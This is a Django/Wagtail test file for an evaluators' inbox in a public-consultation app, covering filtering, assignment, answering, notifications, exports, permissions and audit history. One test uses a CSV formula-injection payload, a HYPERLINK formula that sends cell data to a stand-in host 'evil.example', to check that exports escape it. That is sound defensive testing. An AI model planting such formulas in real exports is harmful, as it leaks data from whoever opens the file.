"""Done when: an evaluator filters the inbox to "field of action: education, status:
received", assigns three contributions to herself, answers one as "partly adopted"; the
author gets the e-mail and sees the answer on the public page; the export has the same
rows as the filtered list."""

import csv
import io
from http import HTTPStatus

import openpyxl
import pytest
from bs4 import BeautifulSoup
from django.core import mail
from django.test import Client
from django.urls import reverse
from wagtail.models import ModelLogEntry

from beteiligung.models import ConsultationPage, Contribution
from tests.beteiligung.factories import ContributionFactory, TopicFactory, user_in

pytestmark = pytest.mark.django_db
Status = Contribution.ReviewStatus
INBOX = "/admin/inbox/"


@pytest.fixture
def inbox(consultation: ConsultationPage) -> dict:
    education = TopicFactory(name="Bildung und Sprache")
    work = TopicFactory(name="Wirtschaft und Arbeit")
    block_id = consultation.paragraphs[-1].block_id
    education_received = [
        ContributionFactory(
            consultation=consultation,
            block_id=block_id,
            paragraph_number="3.2",
            topic=education,
            text=f"Sprachkurse, Vorschlag {number}",
            notify_on_answer=number == 0,
        )
        for number in range(3)
    ]
    ContributionFactory(consultation=consultation, topic=education, review_status=Status.ADOPTED)
    ContributionFactory(consultation=consultation, topic=work)
    return {"education": education, "received": education_received}


def filtered(client: Client, inbox: dict, **extra) -> list[int]:
    params = {"topic": inbox["education"].pk, "review_status": "received", **extra}
    response = client.get(INBOX, params)
    assert response.status_code == HTTPStatus.OK
    return sorted(item.pk for item in response.context["object_list"])


def test_evaluator_filters_assigns_answers_and_exports(
    client: Client, commit, evaluator, inbox: dict
) -> None:
    received = inbox["received"]
    assert filtered(client, inbox) == sorted(c.pk for c in received)

    ids = "&".join(f"id={c.pk}" for c in received)
    url = reverse("wagtail_bulk_action", args=["beteiligung", "contribution", "assign_to_me"])
    response = client.post(f"{url}?next={INBOX}&{ids}")
    assert response.status_code == HTTPStatus.FOUND
    assert Contribution.objects.filter(assignee=evaluator).count() == 3

    answered = received[0]
    with commit():
        response = client.post(
            reverse("wagtailsnippets_beteiligung_contribution:edit", args=[answered.pk]),
            {
                "review_status": Status.PARTLY_ADOPTED,
                "assignee": evaluator.pk,
                "public_answer": "Wir bieten ab 2027 Abendkurse an, Wochenendkurse noch nicht.",
                "internal_note": "Mit der VHS abgestimmt.",
                "tags": "Sprache",
            },
        )
    assert response.status_code == HTTPStatus.FOUND, response.content[:3000]
    answered.refresh_from_db()
    assert answered.answered_at is not None
    assert mail.outbox[-1].to == [answered.email]
    assert f"paragraph/{answered.block_id}/#c-{answered.pk}" in mail.outbox[-1].body

    entry = ModelLogEntry.objects.filter(action="beteiligung.review").latest("timestamp")
    assert entry.user == evaluator
    assert (
        entry.data["changes"]["review_status"] == ["Received", "Partly adopted"]
        or entry.data["changes"]["review_status"][0] != entry.data["changes"]["review_status"][1]
    )

    public = Client().get(f"{answered.consultation.url}paragraph/{answered.block_id}/").text
    assert "Wir bieten ab 2027 Abendkurse an" in public
    assert "Mit der VHS abgestimmt." not in public

    still_received = filtered(client, inbox)
    query = {"topic": inbox["education"].pk, "review_status": "received"}
    export = client.get(INBOX, {**query, "export": "csv"})
    text = b"".join(export.streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert sorted(int(row["ID"]) for row in rows) == still_received
    assert all("@" not in value for row in rows for value in row.values())

    xlsx = client.get(
        INBOX, {"topic": inbox["education"].pk, "review_status": "received", "export": "xlsx"}
    )
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
    assert sheet.max_row - 1 == len(still_received)


def test_inbox_csv_runs_no_formula_typed_by_a_citizen(
    client: Client, evaluator, consultation: ConsultationPage
) -> None:
    ContributionFactory(
        consultation=consultation,
        text='=HYPERLINK("https://evil.example/?"&A1,"Mehr")',
        author_name="@Ana",
        organisation="+Verein",
        public_answer="-",
    )
    export = client.get(INBOX, {"export": "csv"})
    text = b"".join(export.streaming_content).decode("utf-8-sig")
    [row] = list(csv.DictReader(io.StringIO(text)))  # headings in the admin's German
    assert row["Text"] == """'=HYPERLINK("https://evil.example/?"&A1,"Mehr")"""
    assert (row["Anzeigename"], row["Organisation"]) == ("'@Ana", "'+Verein")
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())


def test_not_adopted_needs_a_reason(client: Client, evaluator, inbox: dict) -> None:
    contribution = inbox["received"][0]
    response = client.post(
        reverse("wagtailsnippets_beteiligung_contribution:edit", args=[contribution.pk]),
        {"review_status": Status.NOT_ADOPTED, "public_answer": "", "internal_note": ""},
    )
    assert response.status_code == HTTPStatus.OK
    contribution.refresh_from_db()
    assert contribution.review_status == Status.RECEIVED


def test_inspect_view_shows_the_paragraph_the_contribution_is_about(
    client: Client, evaluator, inbox: dict
) -> None:
    contribution = inbox["received"][0]
    response = client.get(
        reverse("wagtailsnippets_beteiligung_contribution:inspect", args=[contribution.pk])
    )
    assert response.status_code == HTTPStatus.OK
    assert "Absatz 3.2" in response.text


def refused(response) -> bool:
    """Wagtail's admin answers a refused view with a redirect to its dashboard."""
    return response.status_code == HTTPStatus.FOUND and response["Location"] == "/admin/"


def test_moderators_and_evaluators_each_see_only_their_work(client: Client, inbox: dict) -> None:
    client.force_login(user_in("Moderation", "mo"))
    assert refused(client.get(INBOX))
    assert client.get(reverse("moderation:index")).status_code == HTTPStatus.OK
    client.force_login(user_in("Evaluation", "ev"))
    assert client.get(INBOX).status_code == HTTPStatus.OK
    assert refused(client.get(reverse("moderation:index")))


def test_staff_types_in_a_letter(client: Client, evaluator, consultation: ConsultationPage) -> None:
    response = client.post(
        reverse("offline_contributions:add"),
        {
            "channel": "letter",
            "received_on": "2026-11-20",
            "consultation": consultation.pk,
            "language": "de",
            "author_name": "Herr K.",
            "organisation": "",
            "email": "",
            "text": "Brief: Bitte mehr Beratung in Garbsen.",
        },
    )
    assert response.status_code == HTTPStatus.FOUND, response.content[:2000]
    letter = Contribution.objects.get(text__startswith="Brief:")
    assert letter.source == Contribution.Source.OFFLINE
    assert letter.moderation_status == Contribution.ModerationStatus.PENDING


def test_answer_is_shown_with_its_status_beside_the_contribution(
    client: Client, consultation: ConsultationPage
) -> None:
    block_id = consultation.paragraphs[-1].block_id
    ContributionFactory(
        consultation=consultation,
        block_id=block_id,
        review_status=Status.ADOPTED,
        public_answer="Wird umgesetzt.",
    )
    soup = BeautifulSoup(client.get(f"{consultation.url}paragraph/{block_id}/").text, "html.parser")
    answer = soup.select_one(".contribution .answer")
    assert "Wird umgesetzt." in answer.get_text()
    assert answer.select_one(".badge--adopted") is not None


def test_history_shows_old_and_new_values(client: Client, evaluator, inbox: dict) -> None:
    contribution = inbox["received"][1]
    client.post(
        reverse("wagtailsnippets_beteiligung_contribution:edit", args=[contribution.pk]),
        {"review_status": Status.IN_REVIEW, "public_answer": "", "internal_note": "Prüfen"},
    )
    history = client.get(
        reverse("wagtailsnippets_beteiligung_contribution:history", args=[contribution.pk])
    )
    assert history.status_code == HTTPStatus.OK
    assert "“Prüfen”" in history.text


def test_admin_home_shows_what_waits_for_the_evaluator(
    client: Client, evaluator, inbox: dict
) -> None:
    for contribution in inbox["received"][:2]:
        contribution.assignee = evaluator
        contribution.save()
    soup = BeautifulSoup(client.get("/admin/").text, "html.parser")
    panel = soup.select_one("section[aria-labelledby=beteiligung-waiting-heading]")
    counts = [int(strong.get_text()) for strong in panel.select("strong")]
    # Two assigned to her; received and unassigned: the third education one and the work one;
    # adopted without a linked change: the adopted education one.
    assert counts == [2, 2, 1]


def test_inbox_page_queries_do_not_grow_with_the_number_of_contributions(
    client: Client, evaluator, consultation: ConsultationPage
) -> None:
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    def queries() -> int:
        client.get(INBOX)
        with CaptureQueriesContext(connection) as context:
            assert client.get(INBOX, {"review_status": "received"}).status_code == HTTPStatus.OK
        return len(context.captured_queries)

    topic = TopicFactory()
    ContributionFactory.create_batch(3, consultation=consultation, topic=topic, assignee=evaluator)
    few = queries()
    ContributionFactory.create_batch(30, consultation=consultation, topic=topic, assignee=evaluator)
    assert queries() == few
